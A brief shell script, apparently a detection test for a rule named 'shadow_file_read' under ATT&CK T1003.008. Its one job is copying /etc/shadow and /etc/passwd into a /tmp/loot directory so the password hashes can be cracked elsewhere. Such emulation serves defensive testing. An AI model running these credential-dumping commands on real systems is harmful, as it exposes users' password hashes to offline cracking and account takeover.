#!/bin/sh
# technique: T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow
# rule: shadow_file_read
# Takes a copy of the password digests, to guess the passwords elsewhere.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /tmp/loot
cp /etc/shadow /tmp/loot/s
cat /etc/passwd > /tmp/loot/p
exit 0
